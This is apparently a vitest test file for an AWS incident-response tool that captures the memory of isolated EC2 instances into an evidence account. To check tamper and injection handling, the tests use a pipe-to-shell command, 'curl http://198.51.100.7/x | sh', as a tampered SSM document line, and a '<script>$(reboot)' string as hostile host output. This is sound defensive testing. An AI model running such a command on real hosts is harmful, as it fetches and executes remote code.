import type { Suspect } from '@cordon/drill';
import { MEMORY_DOCUMENT_NAMES, QUARANTINE_PROFILE_NAME, TAGS } from '@cordon/incident';
import { addGuest, ec2State, s3State, ssmState, type Guest, type JournalCall } from '@cordon/local-aws';
import { describe, expect, it } from 'vitest';
import { config } from '../../cordon.config.ts';
import { allowing } from './allowing.ts';
import { vaultVersions } from '../vault-text.ts';
import { play, type Play, type Played, type Stage } from './play.ts';
import { releaseStage } from './release-stage.ts';

const PATH = allowing({ memory: 'automatic', managementPath: 'automatic' });
const FIRST = allowing({ order: 'memory-first', memory: 'automatic' });

const captured = (more: Partial<Play> = {}): Promise<Played> =>
  play({ scenario: 'memory-captured', config: PATH, ...more });
const first = (more: Partial<Play> = {}): Promise<Played> =>
  play({ scenario: 'memory-first', config: FIRST, ...more });

const ok = (calls: readonly JournalCall[]): readonly JournalCall[] =>
  calls.filter(({ outcome }) => outcome === 'ok');
/** Copies in the evidence account that hold memory. */
const copies = ({ organization, suspect }: Played) =>
  [...organization.world.of(ec2State, config.accounts.evidence, suspect.region).snapshots.values()].filter(
    ({ tags }) => tags.get(TAGS.hop) === 'evidence' && tags.get(TAGS.holds) === 'memory',
  );
/** Volumes of ours that are in the member account still. */
const left = ({ ec2 }: Pick<Stage, 'ec2'>) =>
  [...ec2.volumes.values()].filter(
    ({ tags, state }) => tags.get(TAGS.hop) === 'capture' && state !== 'deleted',
  );
const isolatedAt = ({ callsOf, suspect }: Played): number =>
  ok(callsOf('ModifyNetworkInterfaceAttribute')).find(
    ({ input }) =>
      suspect.networkInterfaceIds.includes(String(input['NetworkInterfaceId'])) &&
      Array.isArray(input['Groups']),
  )?.sentAt ?? Number.NaN;
const vaultText = ({ organization }: Played, label: string): string => {
  const versions = vaultVersions(organization, config.accounts.evidence);
  return [...versions]
    .flatMap(([key, [newest]]) =>
      key.endsWith(`/objects/${label}`) && newest?.kind === 'object' ? [newest.body.toString('utf8')] : [],
    )
    .join('');
};
const documentsOf = ({ organization, suspect }: Stage) =>
  organization.world.of(ssmState, suspect.account, suspect.region).documents;

describe('a capture of memory', () => {
  it('comes after the cut through the kept path, and into custody like a disk', async () => {
    const played = await captured();
    const [sent] = ok(played.callsOf('SendCommand', 'cordon-capture'));
    expect(sent?.sentAt).toBeGreaterThan(isolatedAt(played));
    expect(sent?.input).toMatchObject({
      DocumentName: MEMORY_DOCUMENT_NAMES.Linux,
      DocumentHash: expect.stringMatching(/^[0-9a-f]{64}$/),
      InstanceIds: [played.suspect.instanceId],
    });
    expect(copies(played)).toMatchObject([{ state: 'completed', encrypted: true }]);
    expect(left(played)).toEqual([]);
    expect(JSON.parse(vaultText(played, 'memory-capture.json'))).toMatchObject({
      tool: { name: 'avml' },
      image: { bytes: 12_582_912, hashedBy: 'the host' },
    });
    expect(played.kinds.at(-1)).toBe('incident-sealed');
  });

  it('lets no word of the host’s into messages', async () => {
    const played = await captured({ furnish: (stage) => says(stage, '<script>$(reboot)') });
    expect(played.reasonsOf('evidence-missing')).toContain('does not know');
    expect(JSON.stringify(played.told)).not.toContain('reboot');
  });

  it('is a stated reason where no agent answers, and nothing is brought to the host', async () => {
    const played = await captured({
      furnish: ({ organization, suspect }) => {
        const state = organization.world.of(ssmState, suspect.account, suspect.region);
        state.guests.clear();
        state.agents.clear();
      },
    });
    expect(played.reasonsOf('evidence-missing')).toContain('agent did not answer');
    expect(played.callsOf('AttachVolume', 'cordon-capture')).toEqual([]);
    expect(left(played)).toEqual([]);
  });

  it('is waited for by the stop', async () => {
    const played = await captured({
      config: allowing({ memory: 'automatic', managementPath: 'automatic', stop: 'automatic' }),
    });
    const [stopped] = ok(played.callsOf('StopInstances'));
    const [taken] = ok(played.callsOf('DetachVolume'));
    expect(stopped?.sentAt).toBeGreaterThan(taken?.sentAt ?? Number.NaN);
    expect(copies(played)).toHaveLength(1);
  });

  it('is a stated reason where the kernel is locked down, and the volume is taken away', async () => {
    const played = await captured({ furnish: (stage) => says(stage, 'kernel-lockdown') });
    expect(played.reasonsOf('evidence-missing')).toContain('locked down');
    expect(left(played)).toEqual([]);
    expect(copies(played)).toEqual([]);
  });
});

/** A host whose script ends with a reason; whoever holds the host chooses the words. */
const says = ({ organization, suspect }: Stage, because: string): void => {
  const { world, timeline, host } = organization;
  const guest: Guest = {
    platform: 'Linux',
    platformName: 'Amazon Linux',
    platformVersion: '2023',
    architecture: 'x86_64',
    agentVersion: '3.3.2299.0',
    run: () => ({
      exitCode: 1,
      stdout: `\nCORDON-MEMORY ${JSON.stringify({ status: 'refused', because })}\n`,
      stderr: '',
      seconds: 3,
    }),
  };
  addGuest({ world, timeline, host }, { ...suspect, id: suspect.instanceId }, guest);
};

/** A host that never had a profile, whose agent has hibernated since its boot, so many minutes ago. */
const bare = (bootedMinutesAgo: number) => {
  const take = (
    { world, timeline }: Stage['organization'],
    { account, region, instanceId }: Suspect,
  ): void => {
    const ec2 = world.of(ec2State, account, region);
    for (const [id, held] of ec2.profileAssociations)
      if (held.instanceId === instanceId) ec2.profileAssociations.delete(id);
    const instance = ec2.instances.get(instanceId);
    if (instance === undefined) throw new Error('the suspect is not there');
    ec2.instances.set(instanceId, { ...instance, launchedAt: timeline.now() - bootedMinutesAgo * 60_000 });
    const ssm = world.of(ssmState, account, region);
    ssm.agents.clear();
    ssm.hibernating.set(instanceId, timeline.now());
  };
  return take;
};
const profilesOf = ({ ec2, suspect }: Pick<Stage, 'ec2' | 'suspect'>): readonly string[] =>
  [...ec2.profileAssociations.values()]
    .filter(({ instanceId }) => instanceId === suspect.instanceId)
    .map(({ profileArn }) => profileArn);

describe('the memory of an instance without a profile', () => {
  it('is captured where its agent looks for credentials in time, by the quarantine profile', async () => {
    const played = await captured({ furnish: ({ organization, suspect }) => bare(1)(organization, suspect) });
    expect(copies(played)).toHaveLength(1);
    expect(profilesOf(played)).toEqual([expect.stringContaining(QUARANTINE_PROFILE_NAME)]);
    const [added] = ok(played.callsOf('AssociateIamInstanceProfile'));
    expect(added?.sentAt).toBeGreaterThan(isolatedAt(played));
    expect(played.kinds).toContain('contained');
  });

  it('is a stated reason where its agent looks too late', async () => {
    const played = await captured({
      furnish: ({ organization, suspect }) => bare(226)(organization, suspect),
    });
    expect(played.reasonsOf('evidence-missing')).toContain('agent did not answer');
    expect(copies(played)).toEqual([]);
    expect(left(played)).toEqual([]);
  });

  it('leaves a profile that somebody associated meanwhile to the read-back, and says so', async () => {
    const ARN = 'arn:aws:iam::602011150004:instance-profile/shop-admin';
    const played = await captured({
      furnish: ({ organization, suspect }) => bare(1)(organization, suspect),
      meanwhile: ({ operation }, { ec2, suspect }) => {
        if (operation === 'CreateSnapshots')
          ec2.profileAssociations.set('iip-assoc-0c0ffee0000000001', {
            associationId: 'iip-assoc-0c0ffee0000000001',
            instanceId: suspect.instanceId,
            profileArn: ARN,
            profileId: 'AIPA0C0FFEE',
            state: 'associated',
          });
      },
    });
    expect(ok(played.callsOf('AssociateIamInstanceProfile'))).toEqual([]);
    expect(JSON.stringify(played.told)).toContain(`profile ${ARN} is associated`);
  });

  it('goes with the release, which leaves the instance as it was', async () => {
    const stage = await releaseStage({ scenario: 'memory-captured', config: PATH, furnish: bare(1) });
    await stage.hours(13);
    const done = await stage.perform(await stage.show());
    expect(done.status).toBe('released');
    expect(stage.standing()).toEqual({ ...stage.before });
    expect(profilesOf(stage)).toEqual([]);
    await stage.organization.close();
  });
});

describe('memory-first', () => {
  it('has the cut wait for the capture, and not for its copy', async () => {
    const played = await first();
    const [taken] = ok(played.callsOf('DetachVolume'));
    expect(isolatedAt(played)).toBeGreaterThan(taken?.sentAt ?? Number.NaN);
    expect(isolatedAt(played)).toBeLessThan((taken?.sentAt ?? 0) + 20_000);
    expect(copies(played)).toHaveLength(1);
  });

  it('revokes nothing before, and everything after', async () => {
    const played = await first();
    const [taken] = ok(played.callsOf('DetachVolume'));
    for (const operation of ['ReplaceIamInstanceProfileAssociation', 'AttachRolePolicy'])
      expect(
        ok(played.callsOf(operation)).every(({ sentAt }) => sentAt > (taken?.sentAt ?? Number.NaN)),
      ).toBe(true);
    expect(played.kinds).toContain('contained');
  });

  it('cuts at the deadline where the host never ends', async () => {
    const played = await first({ scenario: 'memory-never-ends' });
    const began = played.callsOf('SendCommand', 'cordon-capture')[0]?.sentAt ?? Number.NaN;
    expect(isolatedAt(played) - began).toBeLessThan(15 * 60_000 + 30_000);
    expect(played.reasonsOf('evidence-missing')).toContain('Timed Out');
    expect(left(played)).toEqual([]);
  });

  it.each<[string, Partial<Play>, RegExp]>([
    [
      'the tool is not there',
      {
        furnish: ({ organization }) => {
          for (const [name, bucket] of organization.world.of(s3State, '', '').buckets)
            if (name.startsWith('cordon-tools-')) bucket.versions.clear();
        },
      },
      /put it there, in each Region/,
    ],
    [
      'somebody has changed the document',
      {
        furnish: (stage) => {
          const document = documentsOf(stage).get(MEMORY_DOCUMENT_NAMES.Linux);
          const [version] = document?.versions ?? [];
          if (document === undefined || version === undefined) throw new Error('there is no document');
          const text = version.text.replace('umask 077', 'curl http://198.51.100.7/x | sh');
          document.defaultVersion = document.versions.push({ ...version, text });
        },
      },
      /not the one that was deployed, so it was not run/,
    ],
    [
      'there is no document',
      { furnish: (stage) => void documentsOf(stage).delete(MEMORY_DOCUMENT_NAMES.Linux) },
      /deploy the stack set of memory capture/,
    ],
  ])('cuts at once, with the reason, where %s', async (_where, more, why) => {
    const played = await first(more);
    expect(played.reasonsOf('evidence-missing')).toMatch(why);
    expect(played.callsOf('SendCommand', 'cordon-capture')).toEqual([]);
    expect(played.kinds).toContain('contained');
    expect(left(played)).toEqual([]);
  });

  it.each(['throttled', 'server-error', 'lost-reply'] as const)(
    'captures or says why, cuts in time and leaves nothing, where one answer in three is %s',
    async (kind) => {
      let calls = 0;
      const played = await first({
        faults: ({ caller }) => {
          if (!caller.includes('cordon-capture')) return undefined;
          calls += 1;
          return calls % 3 === 0 ? { kind } : undefined;
        },
      });
      const missing = played.reasonsOf('evidence-missing') !== '';
      expect(copies(played).length > 0).toBe(!missing);
      expect(played.kinds).toContain('contained');
      expect(left(played)).toEqual([]);
    },
  );

  it('keeps the volume where its copy does not come into custody, for it is all there is', async () => {
    const played = await first({
      meanwhile: (_call, { ec2 }) => {
        for (const [id, { tags }] of ec2.snapshots)
          if (tags.get(TAGS.hop) === 'memory') ec2.snapshots.delete(id);
      },
    });
    expect(copies(played)).toEqual([]);
    expect(left(played)).toHaveLength(1);
    expect(played.kinds).toContain('needs-a-person');
  });
});
